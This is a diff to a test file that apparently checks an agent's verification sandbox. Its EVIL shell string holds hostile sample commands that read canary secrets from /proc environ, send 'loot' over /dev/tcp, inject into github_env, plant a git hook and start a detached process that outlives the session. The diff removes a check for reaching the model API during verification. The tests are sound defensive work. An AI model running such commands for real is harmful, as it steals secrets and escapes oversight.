@@ -13,8 +13,6 @@ CHECK = "set -e\nfor test in tests/*.sh; do bash $test; done\n"
 EVIL = """\
 grep -rl "CANARY[-]" {base} /proc/*/environ /proc/*/cmdline 2> /dev/null | sed 's/^/LEAKED /'
 (echo loot > /dev/tcp/127.0.0.1/{port}) 2> /dev/null && echo CALLED
-[ -n "$ANTHROPIC_API_KEY$ANTHROPIC_UNIX_SOCKET" ] && echo MODEL
-find / -xdev -name model.sock 2> /dev/null | sed 's/^/MODEL /'
 echo EVIL=1 >> {temp}/_runner_file_commands/github_env
 echo 'touch {base}/hooked' > .git/hooks/post-checkout; git commit --allow-empty -m evil
 (env -i setsid sh -c 'for i in $(seq 100); do date >> {base}/beat; sleep 0.1; done' > /dev/null 2>&1 &)
@@ -67,12 +65,6 @@ def test_network_during_verification(verified: Verified) -> None:
     """Without a sandbox for checks: a test sends off what the agent found."""
     assert "attacked" in verified.said
     assert not verified.called
-
-
-def test_no_model_during_verification(verified: Verified) -> None:
-    """Without a room of its own for checks: a test spends money on the model when the agent's budget is closed."""
-    assert "attacked" in verified.said
-    assert "MODEL" not in verified.said
 
 
 def test_writes_during_verification(verified: Verified) -> None:
